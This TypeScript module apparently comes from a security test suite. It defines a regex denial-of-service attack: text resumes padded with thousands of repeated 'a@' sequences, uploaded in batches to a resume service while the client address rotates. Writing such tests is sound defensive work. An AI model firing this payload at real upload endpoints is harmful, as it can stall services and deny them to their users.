import { type Attack, nextAddress, repeat } from '../attack.ts';
import { upload } from '../http.ts';

const bytes = Buffer.from('Ann Example\nSoftware engineer\n\n'.concat('a@'.repeat(4000)));

export const regex: Attack = {
  description: 'TXT resumes of 8 kB that begin e-mail addresses without end, seven in each upload',
  run: ({ url, token }) =>
    repeat(2, (turn) => {
      const files = Array.from({ length: 7 }, (_, at) => ({ name: `resume-${turn}-${at}.txt`, bytes }));
      return upload(url, files, { on_duplicate: 'create' }, { token, address: nextAddress() });
    }),
};
